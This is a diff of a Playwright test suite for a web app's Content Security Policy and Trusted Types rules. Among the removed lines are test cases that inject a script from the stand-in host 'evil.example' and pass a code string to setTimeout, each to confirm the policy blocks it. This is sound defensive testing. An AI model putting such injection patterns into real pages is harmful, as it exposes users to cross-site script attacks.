@@ -1,5 +1,4 @@
 import type { Page } from '@playwright/test';
-import { insertSecurityPolicy } from '@/lib/publish/content-security-policy';
 import * as messages from '@/messages';
 import {
   expect,
@@ -64,31 +63,6 @@ test.describe('nothing is blocked while a reader', () => {
       await expect(dialog).toHaveCount(0);
       await expect(page).not.toHaveURL(url);
     });
-    await test.step('results page', async () => {
-      const { dialog, field, ...search } = getSearchDialog(page);
-      await search.open();
-      await field.fill('contact');
-      await dialog.getByRole('link', { name: /^See all/ }).click();
-      await expect(page.getByText(/^\d+ documents found$/)).toBeVisible();
-      await page.getByRole('main').getByRole('searchbox').fill('campaign');
-      await expect(page).toHaveURL(/q=campaign/);
-      await page.getByRole('main').getByRole('link').first().click();
-      await expect(page).not.toHaveURL(/\/search/);
-    });
-    await waitUntilSettled(page);
-    expect(violations).toEqual([]);
-  });
-
-  test('uses the mobile menu', async ({ page, open }) => {
-    await page.setViewportSize({ width: 390, height: 800 });
-    const violations = await recordPolicyViolations(page);
-    await open('/crm/lists');
-    await page.getByRole('button', { name: 'Toggle navigation bar' }).click();
-    const menu = page.getByRole('dialog', { name: 'Navigation' });
-    await menu.getByRole('button', { name: '← Back to main menu' }).click();
-    await menu.getByRole('button', { name: 'Docs menu →' }).click();
-    await menu.getByRole('link', { name: 'Tasks' }).click();
-    await expect(getHeading(page)).toHaveText('Tasks');
     await waitUntilSettled(page);
     expect(violations).toEqual([]);
   });
@@ -185,15 +159,6 @@ const blockedActions: [name: string, act: () => unknown, violation: string][] = 
     'require-trusted-types-for: trusted-types-sink Element insertAdjacentHTML',
   ],
   [
-    'a script from another site',
-    () => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.example/a.js';
-      document.head.append(script);
-    },
-    'require-trusted-types-for: trusted-types-sink HTMLScriptElement src',
-  ],
-  [
     'an inline script',
     () => {
       const script = document.createElement('script');
@@ -201,11 +166,6 @@ const blockedActions: [name: string, act: () => unknown, violation: string][] = 
       document.head.append(script);
     },
     'require-trusted-types-for: trusted-types-sink HTMLScriptElement text',
-  ],
-  [
-    'a string passed to setTimeout',
-    () => Reflect.apply(setTimeout, window, ['injected = 1']),
-    'require-trusted-types-for: trusted-types-sink Window setTimeout',
   ],
   [
     'another Trusted Types policy',
@@ -257,18 +217,6 @@ test('React can recover from a hydration mismatch', async ({ page, open }) => {
   expect(violations.filter((violation) => !violation.includes('#418'))).toEqual([]);
   await getSidebar(page).getByRole('link', { name: 'Tasks' }).click();
   await expect(getHeading(page)).toHaveText('Tasks');
-});
-
-test('the inline script of a redirect page runs', async ({ page, open }) => {
-  const violations = await recordPolicyViolations(page);
-  const html =
-    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Moved</title><script>location.replace("/crm/lists"+location.search+location.hash)</script></head><body></body></html>';
-  await page.route('**/moved.html*', (route) =>
-    route.fulfill({ contentType: 'text/html', body: insertSecurityPolicy(html, []) }),
-  );
-  await open('/moved.html?a=1#limits');
-  await expect(page).toHaveURL('/crm/lists?a=1#limits');
-  expect(violations).toEqual([]);
 });
 
 /** Minimal versions of the third-party scripts, based on their documentation. */
